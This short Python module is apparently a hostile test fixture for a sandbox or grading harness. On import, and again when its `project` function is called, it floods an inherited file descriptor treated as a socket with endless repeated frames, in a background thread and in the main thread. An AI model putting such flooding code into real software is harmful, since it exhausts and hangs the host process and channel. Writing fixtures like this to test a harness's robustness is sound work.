"""Sends small messages without end while it is loaded, and while it is asked."""
import os
import socket
import threading

from tools import frame

FLOOD = frame(["at", 0, 0]) * 10_000


def flood():
    data = socket.socket(fileno=os.dup(3))
    while True:
        data.sendall(FLOOD)


def project(A, b):
    flood()


threading.Thread(target=flood, daemon=True).start()
flood()
